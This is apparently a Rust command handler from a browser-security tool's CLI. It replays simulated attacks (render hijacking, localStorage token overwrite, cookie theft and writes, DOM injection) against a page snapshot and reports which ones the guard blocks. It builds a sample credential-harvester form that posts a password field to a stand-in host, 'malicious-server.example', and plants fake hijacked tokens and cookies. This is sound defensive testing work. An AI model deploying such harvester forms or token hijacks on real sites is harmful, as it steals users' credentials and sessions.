//! Attack command handler
//!
//! Replays one attack surface against a snapshot through the page agent,
//! then routes the agent's reports into a fresh background router to show
//! what the suite records about the attempt.

use crate::config::CliConfig;
use crate::error::{CliError, CliResult};
use crate::output::{render_json, OutputFormat, Reporter};
use crate::snapshot;
use crate::{AttackArgs, SurfaceArg};
use escudo::agent::PageAgent;
use escudo::guard::{CallContext, RenderOutcome};
use escudo::logbook::LogEntry;
use escudo::message::{PageCommand, PageReply, Request, Response};
use escudo::page::PageElement;
use escudo::persist::MemoryStore;
use escudo::router::Router;
use serde_json::json;

/// Execute the attack command
pub fn execute_attack(config: &CliConfig, args: &AttackArgs) -> CliResult<()> {
    let world = snapshot::resolve_world(args.snapshot.as_deref(), args.sample)?;
    let url = world.url.clone();
    let mut agent = PageAgent::new(world);

    if args.protect {
        let reply = agent.handle(PageCommand::ApplyProtection);
        if !matches!(reply, PageReply::Protection { protected: true, .. }) {
            return Err(CliError::command(
                "no React globals on this page, nothing to protect",
            ));
        }
    }

    let verdicts = run_surface(&mut agent, args.surface, args.legitimate);
    let events = routed_security_events(&mut agent, &url)?;

    let caller = if args.legitimate {
        "application code"
    } else {
        "injected script"
    };
    match OutputFormat::from(args.format) {
        OutputFormat::Json => {
            let value = json!({
                "url": url,
                "surface": surface_label(args.surface),
                "caller": caller,
                "guardInstalled": args.protect,
                "verdicts": verdicts,
                "securityEvents": events,
            });
            println!("{}", render_json(&value)?);
        }
        OutputFormat::Text => {
            let reporter =
                Reporter::new(config.color.should_color(), config.verbosity.is_quiet());
            reporter.header(&format!("Attack surface: {}", surface_label(args.surface)));
            reporter.info(&format!("Caller: {caller}"));
            reporter.info(&format!(
                "Guard: {}",
                if args.protect { "installed" } else { "not installed" }
            ));
            for verdict in &verdicts {
                println!("  {verdict}");
            }
            if events.is_empty() {
                reporter.info("No security events recorded");
            } else {
                reporter.warning(&format!("{} security events recorded:", events.len()));
                for event in &events {
                    reporter.log_line(event);
                }
            }
        }
    }
    Ok(())
}

/// Drives the chosen surface against the agent and describes what happened.
pub fn run_surface(agent: &mut PageAgent, surface: SurfaceArg, legitimate: bool) -> Vec<String> {
    match surface {
        SurfaceArg::Render => {
            let outcome = agent.invoke_render(&render_context(legitimate));
            vec![format!("ReactDOM.render: {}", outcome_label(&outcome))]
        }
        SurfaceArg::CreateRoot => match agent.invoke_create_root(&render_context(legitimate)) {
            RenderOutcome::Root(root) => {
                let handle = if root.fake { "decoy" } else { "real" };
                let outcome = agent.invoke_root_render(&root, &render_context(legitimate));
                vec![
                    format!("ReactDOM.createRoot: {handle} root handle"),
                    format!("root.render: {}", outcome_label(&outcome)),
                ]
            }
            outcome => vec![format!("ReactDOM.createRoot: {}", outcome_label(&outcome))],
        },
        SurfaceArg::Storage => {
            let stack = attack_stack(legitimate);
            agent.storage_set("auth_token", "hijacked-session-token", &stack);
            let read = agent.storage_get("auth_token", &stack);
            vec![
                "localStorage.setItem(auth_token): written".to_string(),
                format!(
                    "localStorage.getItem(auth_token): {}",
                    read.map_or_else(
                        || "nothing".to_string(),
                        |value| format!("{} characters", value.chars().count())
                    )
                ),
            ]
        }
        SurfaceArg::Cookies => {
            let stack = attack_stack(legitimate);
            let cookies = agent.cookie_read(&stack);
            agent.cookie_write("tracking=injected-id", &stack);
            vec![
                format!(
                    "document.cookie read: {} characters",
                    cookies.chars().count()
                ),
                "document.cookie write: tracking=injected-id".to_string(),
            ]
        }
        SurfaceArg::Inject => {
            agent.insert_element(harvester_form());
            vec!["DOM insertion: form#credential-harvester".to_string()]
        }
    }
}

/// Routes the agent's queued reports through a router and returns the
/// security entries it logged, newest first.
fn routed_security_events(agent: &mut PageAgent, origin: &str) -> CliResult<Vec<LogEntry>> {
    let mut router = Router::new(MemoryStore::default());
    for request in agent.drain_outbox() {
        router.handle(request, origin);
    }
    match router.handle(Request::GetState, "popup").response {
        Response::State { state, .. } => Ok(state
            .logs
            .entries_for_category("security")
            .cloned()
            .collect()),
        other => Err(CliError::command(format!(
            "unexpected state response: {other:?}"
        ))),
    }
}

const fn surface_label(surface: SurfaceArg) -> &'static str {
    match surface {
        SurfaceArg::Render => "render",
        SurfaceArg::CreateRoot => "create-root",
        SurfaceArg::Storage => "storage",
        SurfaceArg::Cookies => "cookies",
        SurfaceArg::Inject => "inject",
    }
}

fn render_context(legitimate: bool) -> CallContext {
    let argument = json!({"component": "InjectedBanner"});
    if legitimate {
        CallContext::application(argument)
    } else {
        CallContext::injected(argument)
    }
}

fn attack_stack(legitimate: bool) -> String {
    render_context(legitimate).stack
}

const fn outcome_label(outcome: &RenderOutcome) -> &'static str {
    match outcome {
        RenderOutcome::Rendered => "forwarded",
        RenderOutcome::Blocked => "blocked",
        RenderOutcome::Root(_) => "root handle",
    }
}

/// Password-collecting form the inject surface drops into the page.
fn harvester_form() -> PageElement {
    PageElement::new("form")
        .with_id("credential-harvester")
        .with_attr("action", "https://malicious-server.example/collect")
        .with_child(PageElement::new("input").with_attr("type", "password"))
}
